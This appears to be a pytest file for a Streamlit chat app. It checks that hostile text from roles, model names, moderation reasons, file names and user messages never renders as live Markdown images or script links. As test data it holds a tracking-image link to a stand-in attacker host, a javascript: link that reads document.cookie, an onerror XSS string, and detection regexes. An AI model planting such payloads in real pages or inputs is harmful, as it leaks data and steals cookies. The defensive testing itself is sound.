"""Hostile strings from every outside source, rendered by the real pages: no outside image
and no script link ever reaches the browser's Markdown.

The sources: a user's own role (name, description, starter questions), the provider's model
names and the model id a reply names, a moderation error's reasons, a file's name, a
conversation's title, the user's own messages. Each page is run with them (AppTest), and every
element that Streamlit renders as Markdown is read back. tests/test_markdown_sites.py checks
the same from the code's side: every rendering call passes outside text through `make_safe`.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest
from google.protobuf.json_format import MessageToDict
from PIL import Image
from streamlit.testing.v1 import AppTest

from assistant.store import RoleDraft
from tests.fake_openrouter import MODELS, TEXT_MODEL, http_error, reply
from ui import links, state

if TYPE_CHECKING:
    from tests.fake_openrouter import FakeOpenRouter
    from tests.page_harness import Pages

IMAGE = "![pixel](https://evil.example/track.png?d=secret)"
SCRIPT = "[win a prize](javascript:alert(document.cookie))"
HOSTILE = f"{IMAGE} {SCRIPT}"
#: Element types Streamlit draws with its Markdown renderer (their text fields).
MARKDOWN_ELEMENTS = {
    "markdown",
    "caption",
    "alert",
    "button",
    "page_link",
    "expandable",
    "popover",
    "metric",
    "toast",
}
_IMAGE = re.compile(r"!\[[^\]]*\]\(\s*<?https?:", re.I)
_SCRIPT = re.compile(r"\]\(\s*<?\s*javascript:", re.I)


def rendered_markdown(at: AppTest) -> list[str]:
    """Every string of every Markdown-rendered element on the page."""
    found: list[str] = []

    def strings(value: Any) -> Iterator[str]:
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for item in value.values():
                yield from strings(item)
        elif isinstance(value, list):
            for item in value:
                yield from strings(item)

    def walk(node: Any) -> None:
        kind = getattr(node, "type", "")
        proto = getattr(node, "proto", None)
        if kind in MARKDOWN_ELEMENTS and proto is not None:
            found.extend(strings(MessageToDict(proto)))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return found


def assert_nothing_hostile(at: AppTest) -> None:
    texts = rendered_markdown(at)
    assert texts, "nothing was rendered"
    bad = [t for t in texts if _IMAGE.search(t) or _SCRIPT.search(t)]
    assert bad == []


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, "PNG")
    return out.getvalue()


def test_a_hostile_custom_role_renders_safely(pages: Pages) -> None:
    ada = pages.member()
    role = pages.store.create_role(
        ada.user.id,
        RoleDraft(
            name=f"Helper {SCRIPT}"[:60],
            system_prompt="Be helpful.",
            description=HOSTILE,
            starters=[HOSTILE, f"Try {IMAGE}"],
        ),
    )
    at = pages.open(links.CHAT, token=ada.token)
    at.selectbox(key=state.ROLE_ID).set_value(role.role_id)
    pages.run(at)
    assert any("evil.example" in t for t in rendered_markdown(at))  # it was shown
    assert_nothing_hostile(at)
    at = pages.open(links.ROLES, token=ada.token)
    assert_nothing_hostile(at)


def test_hostile_model_names_moderation_reasons_titles_and_file_names_render_safely(
    pages: Pages, fake: FakeOpenRouter
) -> None:
    hostile_model = {**MODELS[0], "id": "evil/model", "name": f"Evil {IMAGE}"}
    fake.models = [*fake.models, hostile_model]
    at = pages.open(links.CHAT)
    # A title, a message and a refused file, all hostile.
    at.chat_input[0].upload(f"{IMAGE}.png", b"not an image", "image/png")
    at.chat_input[0].set_value(HOSTILE)
    pages.run(at)
    # A reply that names a hostile model, then a moderation refusal with hostile reasons.
    fake.queue(reply("fine", answer_model=f"x/{IMAGE}"))
    at.chat_input[0].set_value("again")
    pages.run(at)
    fake.queue(http_error(403, metadata={"reasons": [HOSTILE], "flagged_input": "x"}))
    at.chat_input[0].set_value("and again")
    pages.run(at)
    at.session_state[state.MODEL_MENU] = True  # the model menu, open
    pages.run(at)
    shown = " ".join(rendered_markdown(at))
    assert "evil.example" in shown  # the hostile strings were all shown, made safe
    assert_nothing_hostile(at)
    assert TEXT_MODEL
    at = pages.open(links.HISTORY, token=None)
    assert_nothing_hostile(at) if at.markdown else None


def test_a_hostile_photo_name_is_named_safely(pages: Pages) -> None:
    at = pages.open(links.CHAT)
    at.chat_input[0].upload(f"{SCRIPT}.png", png()[:20], "image/png")  # truncated: refused
    at.chat_input[0].set_value("look")
    pages.run(at)
    assert any("was not attached" in w.value for w in at.warning)
    assert_nothing_hostile(at)


@pytest.mark.parametrize("text", [IMAGE, SCRIPT, f"<img src=x onerror=alert(1)> {IMAGE}"])
def test_a_users_own_hostile_message_is_shown_as_text_not_loaded(pages: Pages, text: str) -> None:
    at = pages.open(links.CHAT)
    at.chat_input[0].set_value(text)
    pages.run(at)
    assert_nothing_hostile(at)
